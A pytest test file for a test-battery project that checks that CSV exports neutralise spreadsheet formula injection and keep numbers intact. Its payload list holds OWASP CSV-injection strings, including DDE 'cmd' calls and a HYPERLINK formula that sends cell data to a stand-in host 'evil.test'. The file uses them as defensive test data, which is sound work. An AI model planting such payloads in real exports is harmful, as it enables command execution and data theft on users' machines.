"""CSV in and out safely (toetsbatterij.csvfiles): no exported cell runs as a formula in a
spreadsheet, numbers stay numbers, and every CSV export goes through the one writer."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toetsbatterij import csvfiles

ROOT = Path(__file__).resolve().parent.parent

# OWASP "CSV Injection" payloads and friends.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.test?x=\"&A1,\"klik\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=1",
    "-",
    "+",
    "@",
]
NUMBERS = ["-1.5", "+3", "-1e-05", "-.5", "12", "0.000001", "-0.250000", "1E+10"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralised(payload):
    assert csvfiles.safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number):
    assert csvfiles.safe_cell(number) == number


@pytest.mark.parametrize("value", [None, 0, -3, -1.25, True, "Amina", "R-B1-T003", "'=x"])
def test_other_values_are_left_alone(value):
    assert csvfiles.safe_cell(value) == value


def test_the_writer_writes_neutralised_cells():
    fh = io.StringIO()
    w = csvfiles.writer(fh, delimiter=";")
    w.writerow(["naam", "score"])
    w.writerows([["=cmd|' /C calc'!A0", -1.5], ["El Idrissi; \"A\"", "-2"]])
    rows = list(csv.reader(io.StringIO(fh.getvalue()), delimiter=";"))
    assert rows == [["naam", "score"], ["'=cmd|' /C calc'!A0", "-1.5"],
                    ["El Idrissi; \"A\"", "-2"]]


@given(st.text())
def test_no_cell_can_start_a_formula(text):
    cell = csvfiles.safe_cell(text)
    assert cell in (text, "'" + text)
    if cell.startswith(csvfiles.FORMULA_STARTS):
        float(cell)  # only a plain number may start with + or -


def _read(path):
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_psychometric_exports_are_neutralised(tmp_path):
    from psychometrics import data, export

    key = b"k" * 32
    n = export.write_covariates(tmp_path / "cov.csv", [
        {"person_id": "rrn:1", "gender": "=HYPERLINK(\"http://x\")", "l1_group": "@x"}], key)
    assert n == 1
    row = _read(tmp_path / "cov.csv")[1]
    assert row[1] == "'=HYPERLINK(\"http://x\")" and row[3] == "'@x"
    export.write_responses(tmp_path / "resp.csv", [
        {"person_id": "rrn:1", "item": "+ITEM", "score": 1, "administered_at": "2026-03-02",
         "organisation": "-org", "bank_version": "=v", "position": 1, "pretest": False}], key)
    row = _read(tmp_path / "resp.csv")[1]
    assert row[1] == "'+ITEM" and row[4] == "'-org" and row[5] == "'=v"
    data.write_rows(tmp_path / "rows.csv", ["item", "b"], [["=x", -1.25]])
    assert _read(tmp_path / "rows.csv")[1] == ["'=x", "-1.250000"]


def test_every_csv_export_uses_the_one_writer():
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(p.relative_to(ROOT)) for folder in ("toetsbatterij", "psychometrics")
        for p in sorted((ROOT / folder).rglob("*.py"))
        if p.name != "csvfiles.py" and pattern.search(p.read_text(encoding="utf-8"))
    ]
    assert offenders == []
